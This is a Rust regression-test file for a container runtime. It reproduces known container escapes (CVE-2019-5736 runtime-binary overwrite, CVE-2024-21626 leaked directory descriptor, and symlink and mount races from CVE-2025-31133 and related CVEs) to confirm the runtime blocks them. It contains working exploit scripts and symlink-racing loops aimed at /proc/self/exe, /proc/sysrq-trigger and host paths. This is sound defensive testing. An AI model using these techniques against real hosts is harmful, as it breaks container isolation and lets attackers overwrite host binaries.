//! Ways out of a container that were found in other runtimes, tried by images and programs made for it.

use std::{
    fs,
    os::unix::fs::{PermissionsExt, symlink},
    path::{Path, PathBuf},
    process::{Command, Output, Stdio},
};

use tests::{Host, busybox_tar};

/// What containers must neither read nor change.
const SECRET: &str = "nobody inside reads this";

fn shell(script: &str) -> Command {
    let mut command = Command::new("sh");
    command.args(["-euc", script]);
    command
}

#[track_caller]
fn run(command: &mut Command) -> String {
    let output = command.output().expect("it runs");
    assert!(output.status.success(), "{command:?}: {}", both(&output));
    both(&output)
}

fn both(output: &Output) -> String {
    let [out, err] = [&output.stdout, &output.stderr].map(|octets| String::from_utf8_lossy(octets).into_owned());
    out + &err
}

/// The image `name`: busybox, changed by `change`. Returns where its files are on the host.
fn image(host: &Host, name: &str, change: impl FnOnce(&Path)) -> PathBuf {
    let tree = host.path(&format!("image-{name}"));
    fs::create_dir(&tree).expect("the directory is ours");
    run(Command::new("tar").arg("-xf").arg(busybox_tar()).arg("-C").arg(&tree));
    change(&tree);
    let archive = host.path(&format!("{name}.tar"));
    run(Command::new("tar").arg("-cf").arg(&archive).arg("-C").arg(&tree).arg("."));
    host.ok(&["image", "import", &archive.to_string_lossy(), name]);
    tree
}

fn write_program(path: &Path, text: &str) {
    fs::write(path, text).expect("the directory is ours");
    fs::set_permissions(path, fs::Permissions::from_mode(0o755)).expect("the file is ours");
}

/// Waits for somebody who executes `/bin/target`, opens the program that is run, lets it go on and end, and writes to
/// what was opened.
const OVERWRITE: &str = r#"#!/bin/sh
until file=$(grep -l 'busybox-[x]' /proc/[0-9]*/cmdline 2>/dev/null); do :; done
exec 7<"${file%cmdline}exe"
echo opened
: >/gate
for attempt in $(seq $ATTEMPTS); do
    if { echo overwritten >/proc/self/fd/7; } 2>/tmp/why; then echo written; exit; fi
    usleep 10000
done
echo "refused: $(cat /tmp/why)"
"#;

/// CVE-2019-5736, against a program that executes a file of the container's inside, as `exec` does: the file is a
/// script whose interpreter is whoever executes it.
#[test]
fn who_enters_a_container_is_not_overwritten() {
    let host = Host::new();
    let netd = fs::read_link(format!("/proc/{}/exe", host.netd_pid().as_raw_nonzero())).expect("it runs");
    image(&host, "trap", |tree| {
        write_program(&tree.join("attack"), OVERWRITE);
        // What reads the gate waits until it is written to. One that is busybox reads it here …
        write_program(&tree.join("bin/target"), "#!/bin/busybox-x ash\n: </gate\n");
        symlink("/proc/self/exe", tree.join("bin/busybox-x")).expect("the directory is ours");
        run(Command::new("mkfifo").arg(tree.join("gate")));
        // … and one that has libraries when it loads them.
        let libraries = run(Command::new("ldd").arg(&netd));
        for line in libraries.lines() {
            let words: Vec<&str> = line.split_whitespace().collect();
            match words[..] {
                [name, "=>", ..] => {
                    fs::create_dir_all(tree.join("lib")).expect("the directory is ours");
                    symlink("/gate", tree.join("lib").join(name)).expect("the directory is ours");
                }
                [loader, ..] if loader.starts_with('/') => {
                    let place = tree.join(loader.trim_start_matches('/'));
                    fs::create_dir_all(place.parent().expect("it has a directory")).expect("the directory is ours");
                    fs::copy(loader, place).expect("the directory is ours");
                }
                _ => {}
            }
        }
    });
    // Somebody who may open the programs of all who are in there.
    let start = ["run", "-d", "--cap-add", "SYS_PTRACE"];
    let attack = |name: &str, attempts: usize, enter: &dyn Fn() -> Command| {
        let attempts = format!("ATTEMPTS={attempts}");
        host.ok(&[&start[..], &["-e", &attempts, "--name", name, "trap", "/attack"]].concat());
        let entered = enter().stdin(Stdio::null()).output().expect("it runs");
        host.ok(&["wait", name]);
        let told = host.ok(&["logs", name]);
        assert!(told.starts_with("opened"), "it came as far as that: {told}\n{}", both(&entered));
        told
    };
    let runtime = host.path("busybox-runtime");
    fs::copy("/bin/busybox", &runtime).expect("busybox-static is installed");
    let told = attack("control", 3000, &|| {
        let pid = host.json(&["inspect", "control"])["pid"].to_string();
        let mut command = Command::new(&runtime);
        command.args(["nsenter", "-m", "-p", "-t", &pid, "/bin/target"]);
        command
    });
    assert!(told.ends_with("written"), "the control: one that is a file on the host's disk is overwritten: {told}");
    assert_eq!(fs::read_to_string(&runtime).expect("it is ours"), "overwritten\n", "the control");

    let before = fs::read(&netd).expect("it runs from there");
    let told = attack("victim", 100, &|| host.fabric_command(&["exec", "victim", "/bin/target"]));
    assert!(told.contains("refused"), "{told}");
    assert!(fs::read(&netd).expect("it is there") == before, "the daemon's program is as it was");
    assert_eq!(host.ok(&["run", "--rm", "busybox", "echo", "works"]), "works");
}

/// CVE-2024-21626: a working directory that is a directory of the host's by a descriptor that was left open.
#[test]
fn no_working_directory_is_outside() {
    let host = Host::new();
    let secret = host.path("secret");
    fs::write(&secret, SECRET).expect("the directory is ours");
    let read = format!("cat {}{} 2>&1; true", "../".repeat(12), secret.display());
    let tree = image(&host, "linked", |tree| {
        for number in 3..24 {
            symlink(format!("/proc/self/fd/{number}"), tree.join(format!("work{number}"))).expect("it is ours");
        }
    });
    // One that leaves a directory open, as the runtimes of the time did, and enters what the image says.
    let leaky = format!(
        "mount -t proc proc '{root}/proc'; exec 7</; exec chroot '{root}' sh -c 'cd /work7; {read}'",
        root = tree.display()
    );
    let told = run(Command::new("unshare").args(["--mount", "sh", "-euc", &leaky]));
    assert!(told.contains(SECRET), "the control: who enters it reads what is outside: {told}");

    host.ok(&["run", "-d", "--name", "c", "linked", "sleep", "1000"]);
    for number in 3..24 {
        for directory in [format!("/proc/self/fd/{number}"), format!("/work{number}")] {
            let create = ["run", "--rm", "-w", &directory, "linked", "sh", "-c", &read];
            let exec = ["exec", "-w", &directory, "c", "sh", "-c", &read];
            for line in [&create[..], &exec] {
                let outcome = host.fabric(line);
                assert!(!format!("{outcome}").contains(SECRET), "{outcome}");
            }
        }
    }
    host.assert_healthy();
}

/// A shell's look at what a container must not have: each line a way in that is open.
///
/// None is used: who opens `/proc/sysrq-trigger` has done no harm yet.
const OPEN_WAYS: &str = r#"
for path in /proc/sysrq-trigger /proc/sys/kernel/core_pattern /proc/irq/default_smp_affinity /sys/kernel/x; do
    { true >>$path; } 2>/dev/null && echo "writable $path"
done
for path in /proc/kcore /proc/keys /proc/timer_list /proc/interrupts; do
    [ -z "$(head -c 1 $path 2>/dev/null)" ] || echo "readable $path"
done
[ -z "$(ls /sys/firmware 2>/dev/null)" ] || echo "readable /sys/firmware"
echo looked
"#;

/// CVE-2025-31133, CVE-2025-52565, CVE-2025-52881 and their kin: links of the image in place of what the runtime
/// mounts, makes or masks.
#[test]
fn links_of_an_image_lead_no_mount_device_or_link_outside() {
    const NAMES: [&str; 5] = ["ptmx", "hosts", "null", "resolv.conf", "hostname"];
    let host = Host::new();
    let outside = host.path("outside");
    let up = format!("{}{}", "../".repeat(30), outside.display());
    let absolute = outside.display().to_string();
    let lay_out = || {
        let _ = fs::remove_dir_all(&outside);
        fs::create_dir_all(outside.join("fs")).expect("the directory is ours");
        for name in NAMES {
            fs::write(outside.join(name), SECRET).expect("the directory is ours");
        }
    };
    let state = || {
        run(shell("find . -printf '%P %y %l %s %m\\n' | sort; cat ptmx hosts null 2>&1 || true").current_dir(&outside))
    };
    lay_out();
    let before = state();

    // The control: who follows such links from the host, as mkdir, mknod, ln and mount do, is led outside.
    let tree = host.path("followed");
    fs::create_dir(&tree).expect("the directory is ours");
    symlink(&up, tree.join("dev")).expect("the directory is ours");
    let follow = "ln -s /proc/kcore dev/kcore; rm dev/ptmx; mknod dev/zero c 1 5; mount --bind /dev/null dev/null";
    run(Command::new("unshare").args(["--mount", "sh", "-euc", follow]).current_dir(&tree));
    assert_ne!(state(), before, "the control");
    lay_out();

    let links = [
        ("dev", ""),
        ("proc", ""),
        ("sys", ""),
        ("etc", ""),
        ("tmp", ""),
        ("dev/null", "/null"),
        ("dev/console", "/null"),
        ("dev/ptmx", "/ptmx"),
        ("dev/pts", ""),
        ("dev/shm", ""),
        ("dev/mqueue", ""),
        ("dev/fd", ""),
        ("dev/tty", "/null"),
        ("proc/self", ""),
        ("proc/sys", ""),
        ("proc/sysrq-trigger", "/null"),
        ("proc/kcore", "/null"),
        ("sys/fs", ""),
        ("sys/firmware", ""),
        ("etc/hosts", "/hosts"),
        ("etc/hostname", "/hostname"),
        ("etc/resolv.conf", "/resolv.conf"),
    ];
    let mut started = 0;
    for (place, target) in links {
        for outside_path in [&absolute, &up] {
            let name = format!("{}-{}", place.replace(['/', '.'], "-"), outside_path == &up);
            image(&host, &name, |tree| {
                // Where the link leads to from inside is there as well, so that whoever looks finds nothing amiss.
                let inside = tree.join(absolute.trim_start_matches('/'));
                fs::create_dir_all(inside.join("fs")).expect("the directory is ours");
                for name in NAMES {
                    fs::write(inside.join(name), "").expect("the directory is ours");
                }
                let link = tree.join(place);
                let _ = fs::remove_dir_all(&link);
                let _ = fs::remove_file(&link);
                fs::create_dir_all(link.parent().expect("it has one")).expect("the directory is ours");
                symlink(format!("{outside_path}{target}"), link).expect("the directory is ours");
            });
            for terminal in [&[][..], &["-t"]] {
                let look = ["--tmpfs", "/tmp", &name, "/bin/sh", "-c", OPEN_WAYS];
                let outcome = host.fabric(&[&["run", "--rm"], terminal, &look].concat());
                assert_eq!(state(), before, "{place} -> {outside_path}{target}: {outcome}");
                match outcome.code {
                    0 => assert_eq!(outcome.stdout.trim(), "looked", "{place} -> {outside_path}{target}: {outcome}"),
                    _ => assert!(outcome.stderr.contains("error:"), "refused with a word: {outcome}"),
                }
                started += usize::from(outcome.code == 0);
            }
            host.ok(&["image", "rm", &name]);
        }
    }
    assert!(started > links.len(), "most are harmless, and run: {started}");
    host.assert_healthy();
}

/// The same where the links come and go while the container is made, because somebody else has the directory, too.
#[test]
fn links_that_come_and_go_in_a_shared_directory_unmask_nothing() {
    let host = Host::new();
    let (shared, outside) = (host.path("shared"), host.path("outside"));
    for directory in [&shared, &outside] {
        fs::create_dir(directory).expect("the directory is ours");
    }
    fs::write(outside.join("masked"), SECRET).expect("the directory is ours");
    // The control: who masks by that name what it has not looked at again shows what the link leads to.
    fs::write(outside.join("secret"), SECRET).expect("the directory is ours");
    fs::write(outside.join("open"), "open").expect("the directory is ours");
    symlink(outside.join("open"), shared.join("null")).expect("the directory is ours");
    let mask = format!("mount --bind '{0}/null' '{1}/masked'; cat '{1}/masked'", shared.display(), outside.display());
    assert_eq!(run(Command::new("unshare").args(["--mount", "sh", "-euc", &mask])), "open", "the control");

    let flip = "while :; do rm -rf /shared/* /shared/.[a-z]*; mknod /shared/null c 1 3; rm -f /shared/null; \
                ln -s /proc/sysrq-trigger /shared/null; ln -s /proc /shared/pts; \
                ln -s /proc/sysrq-trigger /shared/console; ln -s /proc/sysrq-trigger /shared/ptmx; \
                ln -s /proc/sys /shared/flip; rm -f /shared/flip; mkdir -p /shared/flip; done";
    let volume = format!("{}:/shared", shared.display());
    host.ok(&["run", "-d", "--name", "flipper", "-v", &volume, "busybox", "sh", "-c", flip]);
    let look = format!(
        "{OPEN_WAYS}for at in /proc /proc/sys /sys /dev /etc; do [ ! -e $at/masked ] || echo \"reachable $at\"; done"
    );
    let at = |directory: &str| format!("{}:{directory}", shared.display());
    let nested = |directory: &str| format!("{}:{directory}/flip", outside.display());
    // Whether it can run at all, with what is in the place of the directory that terminals are made in.
    let variants: [(&[&str], bool); 5] = [
        (&["-v", &at("/data"), "-v", &nested("/data")], true),
        (&["-v", &at("/dev/shm"), "-v", &nested("/dev/shm")], true),
        (&["-v", &at("/dev/mqueue")], true),
        (&["-v", &at("/dev/pts")], true),
        (&["-t", "-v", &at("/dev/pts")], false),
    ];
    for (options, can_run) in variants {
        let outcomes: Vec<_> = (0..10)
            .map(|_| host.fabric(&[&["run", "--rm"], options, &["busybox", "sh", "-c", &look]].concat()))
            .collect();
        for outcome in &outcomes {
            // A directory that changes meanwhile is no reason to succeed. But who runs is confined.
            let ways: Vec<&str> = outcome.stdout.lines().filter(|line| line.contains("able /")).collect();
            assert!(ways.is_empty(), "{outcome}");
            let is_refused_by_runtime = outcome.code == 125 && !outcome.stderr.is_empty();
            assert!(outcome.code == 0 || is_refused_by_runtime, "it came as far as being made: {outcome}");
        }
        let ran = outcomes.iter().filter(|outcome| outcome.stdout.contains("looked")).count();
        println!("{options:?}: {ran} of {} ran", outcomes.len());
        assert_eq!(ran > 0, can_run, "{options:?}: {}", outcomes[0]);
    }
    host.ok(&["rm", "-f", "flipper"]);
    assert_eq!(fs::read_to_string(outside.join("secret")).expect("it is ours"), SECRET);
    host.assert_healthy();
}
